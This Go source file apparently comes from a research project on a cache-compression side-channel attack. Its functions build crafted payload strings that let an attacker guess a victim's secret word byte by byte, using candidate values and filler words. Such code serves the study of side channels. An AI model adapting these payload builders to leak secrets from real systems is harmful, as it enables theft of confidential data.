package attacker

import "github.com/matthewm101/yacc-cpack-cache-attack/pkg/tracelog"

// fillerShorts returns the count smallest values in 1..=100 that appear
// in neither includes nor excludes, in ascending order. The attack
// strings use these as harmless filler words that are known in advance
// to compress the same way regardless of the secret, so they never
// perturb the bit budget the real candidates are tested against.
func fillerShorts(includes []uint16, excludes map[uint16]struct{}, count int) []uint16 {
	includeSet := make(map[uint16]struct{}, len(includes))
	for _, v := range includes {
		includeSet[v] = struct{}{}
	}
	filler := make([]uint16, 0, count)
	for v := uint16(1); v <= 100 && len(filler) < count; v++ {
		if _, in := includeSet[v]; in {
			continue
		}
		if _, ex := excludes[v]; ex {
			continue
		}
		filler = append(filler, v)
	}
	return filler
}

func fillerBytes(includes []byte, excludes map[byte]struct{}, count int) []byte {
	includeSet := make(map[byte]struct{}, len(includes))
	for _, v := range includes {
		includeSet[v] = struct{}{}
	}
	filler := make([]byte, 0, count)
	for v := 1; v <= 100 && len(filler) < count; v++ {
		b := byte(v)
		if _, in := includeSet[b]; in {
			continue
		}
		if _, ex := excludes[b]; ex {
			continue
		}
		filler = append(filler, b)
	}
	return filler
}

// FirstAttackString builds the payload that tests which of the given
// leading shorts (the upper two bytes of a secret word) the victim's
// secret word starts with. includes must hold 1-6 candidate shorts for a
// 4-byte secret, or 1-5 for an 8-byte secret.
func FirstAttackString(includes []uint16, excludes map[uint16]struct{}, secretSize int) []byte {
	switch secretSize {
	case 4:
		return firstAttackString(includes, excludes, 6, 60)
	case 8:
		return firstAttackString(includes, excludes, 5, 56)
	default:
		tracelog.Fatalf("attacker: bad secret size %d", secretSize)
		return nil
	}
}

func firstAttackString(includes []uint16, excludes map[uint16]struct{}, maxIncludes, totalLen int) []byte {
	if len(includes) < 1 || len(includes) > maxIncludes {
		tracelog.Fatalf("attacker: bad number of shorts to include: %d", len(includes))
	}
	out := make([]byte, 0, totalLen)
	for _, short := range includes {
		out = append(out, 0, 0, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	for _, short := range fillerShorts(includes, excludes, maxIncludes-len(includes)) {
		out = append(out, 0, 0, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	// One zero-extended-byte word, then all-zero words out to totalLen.
	out = append(out, 0xFF)
	for len(out) < totalLen {
		out = append(out, 0)
	}
	return out
}

// SecondAttackString builds the payload that tests which of the given
// candidate second-least-significant bytes the victim's secret word
// (known to start with short) has. includes must hold 1-9 candidates for
// a 4-byte secret, or 1-7 for an 8-byte secret.
func SecondAttackString(short uint16, includes []byte, excludes map[byte]struct{}, secretSize int) []byte {
	switch secretSize {
	case 4:
		return secondAttackString(short, includes, excludes, 9, 60, false)
	case 8:
		return secondAttackString(short, includes, excludes, 7, 56, true)
	default:
		tracelog.Fatalf("attacker: bad secret size %d", secretSize)
		return nil
	}
}

func secondAttackString(short uint16, includes []byte, excludes map[byte]struct{}, maxIncludes, totalLen int, trailingByteWord bool) []byte {
	if len(includes) < 1 || len(includes) > maxIncludes {
		tracelog.Fatalf("attacker: bad number of bytes to include: %d", len(includes))
	}
	out := make([]byte, 0, totalLen)
	for _, b := range includes {
		out = append(out, 0, b, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	for _, b := range fillerBytes(includes, excludes, maxIncludes-len(includes)) {
		out = append(out, 0, b, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	if trailingByteWord {
		out = append(out, 0xFF)
	}
	for len(out) < totalLen {
		out = append(out, 0)
	}
	return out
}

// ThirdAttackString builds the payload that tests which of the given
// candidate least-significant bytes the victim's secret word (known to
// be short:secondByte:??) has. includes must hold 1-14 candidates for a
// 4-byte secret, or 1-12 for an 8-byte secret.
func ThirdAttackString(short uint16, secondByte byte, includes []byte, excludes map[byte]struct{}, secretSize int) []byte {
	switch secretSize {
	case 4:
		return thirdAttackString(short, secondByte, includes, excludes, 14, 60, 1)
	case 8:
		return thirdAttackString(short, secondByte, includes, excludes, 12, 56, 2)
	default:
		tracelog.Fatalf("attacker: bad secret size %d", secretSize)
		return nil
	}
}

func thirdAttackString(short uint16, secondByte byte, includes []byte, excludes map[byte]struct{}, maxIncludes, totalLen, trailingZeroWords int) []byte {
	if len(includes) < 1 || len(includes) > maxIncludes {
		tracelog.Fatalf("attacker: bad number of bytes to include: %d", len(includes))
	}
	out := make([]byte, 0, totalLen)
	for _, b := range includes {
		out = append(out, b, secondByte, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	for _, b := range fillerBytes(includes, excludes, maxIncludes-len(includes)) {
		out = append(out, b, secondByte, byte(short&0xFF), byte((short>>8)&0xFF))
	}
	for i := 0; i < trailingZeroWords*4; i++ {
		out = append(out, 0)
	}
	return out
}
